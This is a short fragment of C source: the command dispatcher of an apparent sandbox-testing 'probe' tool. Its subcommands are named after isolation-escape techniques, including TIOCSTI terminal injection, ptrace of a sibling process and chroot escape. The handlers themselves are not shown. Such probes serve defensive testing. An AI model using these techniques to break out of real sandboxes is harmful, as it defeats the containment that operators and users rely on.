    return cmd_connect (arg, cmd[0] == 'l');
  if (strcmp (cmd, "tiocsti") == 0)
    return cmd_tiocsti (strcmp (arg, "check") == 0);
  if (strcmp (cmd, "pty-run") == 0 && argc > 3)
    return cmd_pty_run (arg, argv + 3);
  if (strcmp (cmd, "ptrace-sibling") == 0)
    return cmd_ptrace_sibling ();
  if (strcmp (cmd, "nest-proc") == 0)
    return cmd_nest_proc (arg);
  if (strcmp (cmd, "chroot-escape") == 0 && argc > 3)
    return cmd_chroot_escape (arg, argv[3]);
  if (strcmp (cmd, "swap") == 0 && argc > 3)
    return cmd_swap (arg, argv[3]);
  if (strcmp (cmd, "hunt") == 0)
    return cmd_hunt (arg);
  fprintf (stderr, "probe: unknown command '%s'\n", cmd);
  return 2;
}
